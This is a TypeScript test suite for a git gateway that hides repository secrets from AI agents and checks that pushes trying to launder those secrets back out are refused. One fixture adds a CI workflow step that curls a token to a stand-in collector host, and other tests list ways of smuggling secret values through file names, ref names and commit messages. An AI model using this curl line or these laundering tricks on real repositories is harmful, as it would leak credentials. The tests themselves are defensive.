// RepoMirror.receive on real repositories: an agent's commits on sanitized history go upstream with the
// tokens' values restored and come back under the ids the agent pushed; every way of getting a value
// back out through a push is refused, and nothing of a refused push is kept.
import { expect } from 'chai';
import fs from 'node:fs';
import path from 'node:path';
import { ZERO_OID, type PushOutcome, type RefRule, type RepoMirror } from '../src/index.js';
import { agentClone, commitAll, packOf, wt } from './agent-work.js';
import { Quarantine } from '../src/push/quarantine.js';
import {
  Upstream, fakeGithubPat, makeMirror, openDataEnv, readObject, refsOf, removeDir, revParse, tempDir, tokensIn, type DataEnv,
  unwordlyPassword,
} from './helpers.js';

const anyRef: RefRule = () => ({ ok: true });

describe('push through the gateway (RepoMirror.receive)', function () {
  this.timeout(60_000);
  let dir: string;
  let env: DataEnv;
  let up: Upstream;
  let m: RepoMirror;
  let secret: string;
  let password: string;
  let base: string;

  beforeEach(async () => {
    dir = tempDir();
    up = Upstream.create(path.join(dir, 'upstream.git'));
    env = await openDataEnv(path.join(dir, 'data'));
    secret = fakeGithubPat();
    password = unwordlyPassword();
    base = up.commitFiles({ 'deploy/app.env': `GITHUB_TOKEN=${secret}\nREGION=eu\n`, 'deploy/db.env': `DB_PASSWORD=${password}\n`, 'src/main.js': 'console.log(1);\n' }, 'base\n');
    up.setRef('refs/heads/main', base);
    up.setHead('refs/heads/main');
    m = makeMirror(env, up.gitDir);
    await m.sync();
  });
  afterEach(async () => {
    await env.close();
    removeDir(dir);
  });

  async function push(work: string, ref: string, newId: string, oldId = ZERO_OID, rules: RefRule = anyRef): Promise<PushOutcome> {
    const served = revParse(m.sanitized.gitDir, 'refs/heads/main');
    return m.receive({ commands: [{ ref, oldId, newId }], pack: packOf(work, newId, served), atomic: false, rules });
  }

  /** The suite's scanner, except that content holding `marker` cannot be scanned (it is withheld). */
  function failingOn(marker: string): typeof env.scanner {
    return { ...env.scanner, scan: (b, h) => {
      if (b.includes(marker)) throw new Error('cannot scan');
      return env.scanner.scan(b, h);
    } };
  }

  function pushDirs(): string[] {
    return fs.readdirSync(path.join(env.dir, 'repos')).flatMap((r) => fs.readdirSync(path.join(env.dir, 'repos', r))).filter((n) => n.startsWith('push-'));
  }

  it('puts the real value back upstream and serves the branch under the id the agent pushed', async () => {
    const work = agentClone(m, dir);
    const served = fs.readFileSync(path.join(work, 'deploy/app.env'), 'utf8');
    const token = tokensIn(served)[0]!;
    const id = commitAll(work, { 'deploy/app.env': served.replace('REGION=eu', 'REGION=us'), 'src/main.js': 'console.log(2);\n' }, 'move to us\n');
    const out = await push(work, 'refs/heads/agent/x', id);
    expect(out.refs[0]).to.include({ ok: true, ref: 'refs/heads/agent/x' });
    expect(out.tokensRestored).to.deep.equal([token]);
    const upstreamTip = refsOf(up.gitDir).get('refs/heads/agent/x')!;
    expect(readObject(up.gitDir, revParse(up.gitDir, `${upstreamTip}:deploy/app.env`)).content.toString()).to.equal(`GITHUB_TOKEN=${secret}\nREGION=us\n`);
    expect(readObject(up.gitDir, revParse(up.gitDir, `${upstreamTip}:src/main.js`)).content.toString()).to.equal('console.log(2);\n');
    expect(revParse(up.gitDir, `${upstreamTip}^`)).to.equal(base);
    expect(refsOf(m.sanitized.gitDir).get('refs/heads/agent/x')).to.equal(id);
    expect(pushDirs()).to.deep.equal([]);
  });

  it('fast-forwards a second push on the pushed branch', async () => {
    const work = agentClone(m, dir);
    const first = commitAll(work, { 'src/main.js': 'console.log(2);\n' }, 'two\n');
    expect((await push(work, 'refs/heads/agent/x', first)).refs[0]!.ok).to.equal(true);
    const second = commitAll(work, { 'src/main.js': 'console.log(3);\n' }, 'three\n');
    const out = await m.receive({ commands: [{ ref: 'refs/heads/agent/x', oldId: first, newId: second }], pack: packOf(work, second, first), atomic: false, rules: anyRef });
    expect(out.refs[0]!.ok).to.equal(true);
    expect(refsOf(m.sanitized.gitDir).get('refs/heads/agent/x')).to.equal(second);
    expect(revParse(up.gitDir, 'refs/heads/agent/x^')).to.equal(out.refs[0]!.upstreamOldId);
  });

  it('refuses a new raw secret with its path, line and rule, and keeps nothing', async () => {
    const work = agentClone(m, dir);
    const id = commitAll(work, { 'src/keys.js': `// keys\nconst t = "${fakeGithubPat()}";\n` }, 'oops\n');
    const out = await push(work, 'refs/heads/agent/x', id);
    expect(out.refs[0]!.ok).to.equal(false);
    expect(out.refs[0]!.reason).to.match(/^src\/keys\.js:2: a new secret \(rule [a-z0-9-]+\)/);
    expect(refsOf(up.gitDir).has('refs/heads/agent/x')).to.equal(false);
    expect(pushDirs()).to.deep.equal([]);
  });

  it('refuses a token moved where the gateway would not find its value again', async () => {
    const work = agentClone(m, dir);
    const token = tokensIn(fs.readFileSync(path.join(work, 'deploy/db.env'), 'utf8'))[0]!;
    // Glued into a word in prose: no rule names it there and a known value must stand alone, so after
    // the next sync the value would be served as it is.
    const id = commitAll(work, { 'README.md': `the value is x${token}y today\n` }, 'launder\n');
    const out = await push(work, 'refs/heads/agent/x', id);
    expect(out.refs[0]!.ok).to.equal(false);
    expect(out.refs[0]!.reason).to.contain('README.md:1').and.contain(token);
    expect(refsOf(up.gitDir).has('refs/heads/agent/x')).to.equal(false);
  });

  it('refuses a token copied into a file whose parent version does not hold its value (a CI workflow), and keeps nothing', async () => {
    const work = agentClone(m, dir);
    const token = tokensIn(fs.readFileSync(path.join(work, 'deploy/db.env'), 'utf8'))[0]!;
    // Upstream CI would run this on the pushed branch and send the value out: no approver released it.
    const id = commitAll(work, { '.github/workflows/ci.yml': `on: push\njobs:\n  x:\n    steps:\n      - run: curl -s "https://collector.invalid/?k=${token}"\n` }, 'ci\n');
    const out = await push(work, 'refs/heads/agent/x', id);
    expect(out.refs[0]!.ok).to.equal(false);
    expect(out.refs[0]!.reason).to.contain('.github/workflows/ci.yml').and.contain(token).and.contain('not in this file in the parent commit');
    expect(out.refs[0]!.reason).to.not.contain(password);
    expect(refsOf(up.gitDir).has('refs/heads/agent/x')).to.equal(false);
    expect(pushDirs()).to.deep.equal([]);
  });

  it('refuses a token moved into another file, though its value would come back as a known secret', async () => {
    const work = agentClone(m, dir);
    const token = tokensIn(fs.readFileSync(path.join(work, 'deploy/db.env'), 'utf8'))[0]!;
    const id = commitAll(work, { 'README.md': `the value is ${token} today\n` }, 'note\n');
    const out = await push(work, 'refs/heads/agent/x', id);
    expect(out.refs[0]!.ok).to.equal(false);
    expect(out.refs[0]!.reason).to.contain('README.md').and.contain(token);
    expect(refsOf(up.gitDir).has('refs/heads/agent/x')).to.equal(false);
  });

  it('keeps a token where its value already is through two new commits, each editing that file', async () => {
    const work = agentClone(m, dir);
    const db = fs.readFileSync(path.join(work, 'deploy/db.env'), 'utf8');
    commitAll(work, { 'deploy/db.env': `${db}DB_HOST=db1\n` }, 'host\n');
    const id = commitAll(work, { 'deploy/db.env': `# primary\n${db}DB_HOST=db2\n` }, 'host again\n');
    const out = await push(work, 'refs/heads/agent/x', id);
    expect(out.refs[0]!.ok, out.refs[0]!.reason).to.equal(true);
    expect(readObject(up.gitDir, revParse(up.gitDir, 'refs/heads/agent/x:deploy/db.env')).content.toString()).to.equal(`# primary\nDB_PASSWORD=${password}\nDB_HOST=db2\n`);
    expect(refsOf(m.sanitized.gitDir).get('refs/heads/agent/x')).to.equal(id);
  });

  it('refuses a token in a new commit\'s message or identity', async () => {
    const token = tokensIn(fs.readFileSync(path.join(agentClone(m, dir), 'deploy/db.env'), 'utf8'))[0]!;
    const inMessage = agentClone(m, dir);
    const a = commitAll(inMessage, { 'src/main.js': 'console.log(2);\n' }, `rotate ${token}\n`);
    const outA = await push(inMessage, 'refs/heads/agent/a', a);
    expect(outA.refs[0]!.ok).to.equal(false);
    expect(outA.refs[0]!.reason).to.contain(token).and.contain('its message');
    const inAuthor = agentClone(m, dir);
    fs.writeFileSync(path.join(inAuthor, 'src/main.js'), 'console.log(3);\n');
    wt(inAuthor, ['add', '-A']);
    wt(inAuthor, ['commit', '-q', '-m', 'three', `--author=Ada <${token}@example.invalid>`]);
    const b = wt(inAuthor, ['rev-parse', 'HEAD']);
    const outB = await push(inAuthor, 'refs/heads/agent/b', b);
    expect(outB.refs[0]!.ok).to.equal(false);
    expect(outB.refs[0]!.reason).to.contain(token);
    expect(refsOf(up.gitDir).has('refs/heads/agent/a')).to.equal(false);
    expect(refsOf(up.gitDir).has('refs/heads/agent/b')).to.equal(false);
  });

  it('refuses a token in the name of a new branch, though a PAT in a ref name would come back as that token', async () => {
    const work = agentClone(m, dir);
    const token = tokensIn(fs.readFileSync(path.join(work, 'deploy/app.env'), 'utf8'))[0]!;
    const id = commitAll(work, { 'src/main.js': 'console.log(2);\n' }, 'two\n');
    const ref = `refs/heads/agent/${token.slice(2, -2)}`;
    const out = await push(work, ref, id);
    expect(out.refs[0]!.ok).to.equal(false);
    expect(out.refs[0]!.reason).to.contain('the name of a new ref');
    expect([...refsOf(up.gitDir).keys()].filter((r) => r.startsWith('refs/heads/agent/'))).to.deep.equal([]);
  });

  it('never names a restored value in a refusal: a token glued into a file name', async () => {
    const work = agentClone(m, dir);
    const token = tokensIn(fs.readFileSync(path.join(work, 'deploy/db.env'), 'utf8'))[0]!;
    const id = commitAll(work, { [`notes/x${token}y.txt`]: 'hello\n' }, 'name\n');
    const out = await push(work, 'refs/heads/agent/x', id);
    expect(out.refs[0]!.ok).to.equal(false);
    expect(out.refs[0]!.reason).to.contain('notes/');
    expect(out.refs[0]!.reason).to.not.contain(password);
    expect(refsOf(up.gitDir).has('refs/heads/agent/x')).to.equal(false);
  });

  it('refuses a ref name whose restored value would be served bare, and records the name sanitized', async () => {
    const work = agentClone(m, dir);
    const token = tokensIn(fs.readFileSync(path.join(work, 'deploy/db.env'), 'utf8'))[0]!;
    const id = commitAll(work, { 'src/main.js': 'console.log(2);\n' }, 'two\n');
    const ref = `refs/heads/agent/${token.slice(2, -2)}`;
    const out = await push(work, ref, id);
    expect(out.refs[0]!.ok).to.equal(false);
    expect(out.refs[0]!.reason).to.contain('ref name holds a secret');
    expect(out.refs[0]!.recordedRef ?? ref).to.not.contain(password);
    expect([...refsOf(up.gitDir).keys()].some((r) => r.includes(password))).to.equal(false);
  });

  it('keeps each withheld file upstream where it was, though they share one sanitized form', async () => {
    const scanner = failingOn('UNSCANNABLE');
    const tip = up.commitFiles({ 'bin/a.dat': 'UNSCANNABLE-1\n', 'bin/b.dat': 'UNSCANNABLE-2\n', 'bin/notes.txt': 'one\n' }, 'bins\n', [base]);
    up.setRef('refs/heads/main', tip);
    const wm = makeMirror(env, up.gitDir, { scanner });
    await wm.sync();
    const work = agentClone(wm, dir);
    expect(fs.readFileSync(path.join(work, 'bin/a.dat'), 'utf8')).to.equal(fs.readFileSync(path.join(work, 'bin/b.dat'), 'utf8'));
    const id = commitAll(work, { 'bin/notes.txt': 'two\n' }, 'notes\n');
    const served = revParse(wm.sanitized.gitDir, 'refs/heads/main');
    const out = await wm.receive({ commands: [{ ref: 'refs/heads/agent/x', oldId: ZERO_OID, newId: id }], pack: packOf(work, id, served), atomic: false, rules: anyRef });
    expect(out.refs[0]!.ok, out.refs[0]!.reason).to.equal(true);
    expect(readObject(up.gitDir, revParse(up.gitDir, 'refs/heads/agent/x:bin/a.dat')).content.toString()).to.equal('UNSCANNABLE-1\n');
    expect(readObject(up.gitDir, revParse(up.gitDir, 'refs/heads/agent/x:bin/b.dat')).content.toString()).to.equal('UNSCANNABLE-2\n');
    expect(refsOf(wm.sanitized.gitDir).get('refs/heads/agent/x')).to.equal(id);
  });

  it('refuses a withheld file moved where the parent commit had none of its originals', async () => {
    const scanner = failingOn('UNSCANNABLE');
    up.setRef('refs/heads/main', up.commitFiles({ 'bin/a.dat': 'UNSCANNABLE-1\n', 'bin/b.dat': 'UNSCANNABLE-2\n' }, 'bins\n', [base]));
    const wm = makeMirror(env, up.gitDir, { scanner });
    await wm.sync();
    const work = agentClone(wm, dir);
    fs.copyFileSync(path.join(work, 'bin/a.dat'), path.join(work, 'c.dat'));
    const id = commitAll(work, {}, 'copy\n');
    const served = revParse(wm.sanitized.gitDir, 'refs/heads/main');
    const out = await wm.receive({ commands: [{ ref: 'refs/heads/agent/x', oldId: ZERO_OID, newId: id }], pack: packOf(work, id, served), atomic: false, rules: anyRef });
    expect(out.refs[0]!.reason).to.match(/^c\.dat: several upstream files share this sanitized form/);
  });

  it('deletes a pushed branch upstream, leased on its old id', async () => {
    const work = agentClone(m, dir);
    const id = commitAll(work, { 'src/main.js': 'console.log(2);\n' }, 'two\n');
    await push(work, 'refs/heads/agent/x', id);
    const out = await m.receive({ commands: [{ ref: 'refs/heads/agent/x', oldId: id, newId: ZERO_OID }], pack: Buffer.alloc(0), atomic: false, rules: anyRef });
    expect(out.refs[0]!.ok, out.refs[0]!.reason).to.equal(true);
    expect(refsOf(up.gitDir).has('refs/heads/agent/x')).to.equal(false);
    expect(refsOf(m.sanitized.gitDir).has('refs/heads/agent/x')).to.equal(false);
  });

  it('refuses an annotated tag with a token in its message, and pushes one without', async () => {
    const work = agentClone(m, dir);
    const token = tokensIn(fs.readFileSync(path.join(work, 'deploy/app.env'), 'utf8'))[0]!;
    const commit = commitAll(work, { 'src/main.js': 'console.log(2);\n' }, 'two\n');
    const served = revParse(m.sanitized.gitDir, 'refs/heads/main');
    wt(work, ['tag', '-a', 'v9', '-m', `release, rotate ${token}`]);
    const bad = wt(work, ['rev-parse', 'v9']);
    const refused = await m.receive({ commands: [{ ref: 'refs/tags/v9', oldId: ZERO_OID, newId: bad }], pack: packOf(work, bad, served), atomic: false, rules: anyRef });
    expect(refused.refs[0]!.ok).to.equal(false);
    expect(refused.refs[0]!.reason).to.contain(token).and.contain('its message');
    expect(refsOf(up.gitDir).has('refs/tags/v9')).to.equal(false);
    wt(work, ['tag', '-f', '-a', 'v9', '-m', 'release, rotated']);
    const tag = wt(work, ['rev-parse', 'v9']);
    const out = await m.receive({ commands: [{ ref: 'refs/tags/v9', oldId: ZERO_OID, newId: tag }], pack: packOf(work, tag, served), atomic: false, rules: anyRef });
    expect(out.refs[0]!.ok, out.refs[0]!.reason).to.equal(true);
    expect(readObject(up.gitDir, refsOf(up.gitDir).get('refs/tags/v9')!).content.toString()).to.contain('release, rotated');
    expect(refsOf(m.sanitized.gitDir).get('refs/tags/v9')).to.equal(tag);
    expect(revParse(m.sanitized.gitDir, 'refs/tags/v9^{commit}')).to.equal(commit);
  });

  it('removes the quarantine a killed push left (restored values inside) when asked at start, and makes each new one 0700', async () => {
    const repoDir = path.join(env.dir, 'repos', fs.readdirSync(path.join(env.dir, 'repos'))[0]!);
    const stale = path.join(repoDir, 'push-0123456789ab', 'candidate', 'pack');
    fs.mkdirSync(stale, { recursive: true });
    fs.writeFileSync(path.join(stale, 'pack-x.pack'), `DB_PASSWORD=${password}\n`);
    expect(m.removeStalePushes()).to.equal(1);
    expect(pushDirs()).to.deep.equal([]);
    expect(m.removeStalePushes()).to.equal(0);
    const q = Quarantine.create(repoDir, m.sanitized.gitDir, path.join(repoDir, 'upstream.git'));
    try {
      expect(fs.statSync(path.join(repoDir, pushDirs()[0]!)).mode & 0o777).to.equal(0o700);
    } finally {
      q.dispose();
    }
  });

  it('awaits beforeUpstream with the proven refs and tokens, and leaves upstream untouched when it rejects', async () => {
    const work = agentClone(m, dir);
    const db = fs.readFileSync(path.join(work, 'deploy/db.env'), 'utf8');
    const id = commitAll(work, { 'deploy/db.env': `${db}DB_HOST=db1\n` }, 'host\n');
    const served = revParse(m.sanitized.gitDir, 'refs/heads/main');
    const request = { commands: [{ ref: 'refs/heads/agent/x', oldId: ZERO_OID, newId: id }], pack: packOf(work, id, served), atomic: false, rules: anyRef };
    const seen: { refs: [string, boolean][]; tokens: number }[] = [];
    const failed = await m.receive({ ...request, beforeUpstream: async (p) => {
      seen.push({ refs: p.refs.map((r) => [r.ref, r.upstreamNewId !== undefined]), tokens: p.tokensRestored.length });
      throw new Error('the audit store is unavailable');
    } }).then(() => null, (e: unknown) => e as Error);
    expect(failed?.message).to.equal('the audit store is unavailable');
    expect(seen).to.deep.equal([{ refs: [['refs/heads/agent/x', true]], tokens: 1 }]);
    expect(refsOf(up.gitDir).has('refs/heads/agent/x')).to.equal(false);
    expect(pushDirs()).to.deep.equal([]);
    let called = 0;
    const out = await m.receive({ ...request, beforeUpstream: async () => { called++; } });
    expect(out.refs[0]!.ok, out.refs[0]!.reason).to.equal(true);
    expect(called).to.equal(1);
    expect(refsOf(up.gitDir).has('refs/heads/agent/x')).to.equal(true);
  });

  it('refuses a revoked token', async () => {
    const work = agentClone(m, dir);
    const served = fs.readFileSync(path.join(work, 'deploy/app.env'), 'utf8');
    await env.vault.revoke(tokensIn(served)[0]!);
    const id = commitAll(work, { 'deploy/app.env': served.replace('REGION=eu', 'REGION=us') }, 'edit\n');
    const out = await push(work, 'refs/heads/agent/x', id);
    expect(out.refs[0]!.reason).to.contain('was revoked');
  });

  it('refuses a token of another repository', async () => {
    const other = Upstream.create(path.join(dir, 'other.git'));
    other.setRef('refs/heads/main', other.commitFiles({ 'x.env': `GITHUB_TOKEN=${fakeGithubPat()}\n` }, 'x\n'));
    const om = makeMirror(env, other.gitDir, { name: 'acme/other', dir: path.join(env.dir, 'repos', 'acme%2Fother') });
    await om.sync();
    const foreign = tokensIn(readObject(om.sanitized.gitDir, revParse(om.sanitized.gitDir, 'main:x.env')).content.toString())[0]!;
    const work = agentClone(m, dir);
    const id = commitAll(work, { 'deploy/other.env': `GITHUB_TOKEN=${foreign}\n` }, 'borrow\n');
    const out = await push(work, 'refs/heads/agent/x', id);
    expect(out.refs[0]!.reason).to.contain('belongs to another repository');
  });

  it('refuses as non-fast-forward when upstream moved under the lease', async () => {
    // A mirror whose last sync is still fresh (coalesced): upstream moves after it, before the push.
    const lagging = makeMirror(env, up.gitDir, { coalesceMs: 600_000 });
    await lagging.sync({ force: true });
    const work = agentClone(lagging, dir);
    const first = commitAll(work, { 'src/main.js': 'console.log(2);\n' }, 'two\n');
    expect((await lagging.receive({ commands: [{ ref: 'refs/heads/agent/x', oldId: ZERO_OID, newId: first }], pack: packOf(work, first, revParse(lagging.sanitized.gitDir, 'refs/heads/main')), atomic: false, rules: anyRef })).refs[0]!.ok).to.equal(true);
    const theirs = up.commitFiles({ 'src/main.js': 'theirs\n' }, 'theirs\n', [revParse(up.gitDir, 'refs/heads/agent/x')]);
    up.setRef('refs/heads/agent/x', theirs);
    const second = commitAll(work, { 'src/main.js': 'console.log(3);\n' }, 'three\n');
    const out = await lagging.receive({ commands: [{ ref: 'refs/heads/agent/x', oldId: first, newId: second }], pack: packOf(work, second, first), atomic: false, rules: anyRef });
    expect(out.refs[0]!.ok).to.equal(false);
    expect(out.refs[0]!.reason).to.match(/^non-fast-forward/);
    expect(refsOf(up.gitDir).get('refs/heads/agent/x')).to.equal(theirs);
  });

  it('refuses as stale a push whose old id is not where the ref is served now', async () => {
    const work = agentClone(m, dir);
    const id = commitAll(work, { 'src/main.js': 'console.log(2);\n' }, 'two\n');
    const out = await push(work, 'refs/heads/main', id, id);
    expect(out.refs[0]!.reason).to.match(/^stale info/);
  });

  it('refuses a ref the rules refuse, with their reason', async () => {
    const work = agentClone(m, dir);
    const id = commitAll(work, { 'src/main.js': 'console.log(2);\n' }, 'two\n');
    const out = await push(work, 'refs/heads/main', id, revParse(m.sanitized.gitDir, 'refs/heads/main'), () => ({ ok: false, reason: 'outside agent/*' }));
    expect(out.refs[0]).to.include({ ok: false, reason: 'outside agent/*' });
    expect(refsOf(up.gitDir).get('refs/heads/main')).to.equal(base);
  });

  it('refuses a signed commit, whose id a sync could not keep', async () => {
    const work = agentClone(m, dir);
    commitAll(work, { 'src/main.js': 'console.log(2);\n' }, 'two\n');
    const raw = wt(work, ['cat-file', 'commit', 'HEAD']);
    const [head, msg] = raw.split('\n\n');
    const signed = `${head}\ngpgsig -----BEGIN SIG-----\n abc\n -----END SIG-----\n\n${msg}\n`;
    const id = wt(work, ['hash-object', '-t', 'commit', '-w', '--stdin'], signed);
    const out = await push(work, 'refs/heads/agent/x', id);
    expect(out.refs[0]!.reason).to.contain('is signed');
  });

  it('maps a pushed commit that the agent did not change to its upstream id', async () => {
    const work = agentClone(m, dir);
    const head = wt(work, ['rev-parse', 'HEAD']);
    const out = await m.receive({ commands: [{ ref: 'refs/heads/agent/same', oldId: ZERO_OID, newId: head }], pack: Buffer.alloc(0), atomic: false, rules: anyRef });
    expect(out.refs[0]).to.include({ ok: true, upstreamNewId: base });
    expect(refsOf(up.gitDir).get('refs/heads/agent/same')).to.equal(base);
  });
});
